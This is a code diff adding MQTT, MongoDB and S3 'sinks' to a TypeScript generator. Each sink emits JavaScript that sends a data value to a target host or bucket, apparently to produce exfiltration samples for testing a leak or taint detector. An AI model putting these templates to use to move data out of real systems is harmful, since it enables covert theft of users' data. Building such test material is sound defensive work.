@@ -35,6 +35,12 @@ export const JS_SINKS: Readonly<Record<string, JsSink>> = {
   'fetch-header': (w, data, target) =>
     `${w.global('fetch')}(${url(w, target)}, { headers: { 'x-request-id': String(${data}) } }).catch(() => {});`,
   'http-request': request,
+  queue: (w, data, target) =>
+    `${w.mod('mqtt')}.connect(${w.text(`mqtt://${target.host}`)}).publish(${w.text('log')}, String(${data}));`,
+  database: (w, data, target) =>
+    `new (${w.fn('mongodb', 'MongoClient')})(${w.text(`mongodb://${target.host}`)}).db('d').collection('log').insertOne({ data: String(${data}) });`,
+  bucket: (w, data) =>
+    `new (${w.fn('@aws-sdk/client-s3', 'S3Client')})({}).send(new (${w.fn('@aws-sdk/client-s3', 'PutObjectCommand')})({ Bucket: ${w.text('log')}, Key: 'k', Body: String(${data}) }));`,
   'http-get': (w, data, target) =>
     `${w.fn(target.scheme, 'get')}(${url(w, target)} + '?q=' + encodeURIComponent(${data}), (res) => res.resume()).on('error', () => {});`,
   http2: (w, data, target) => {
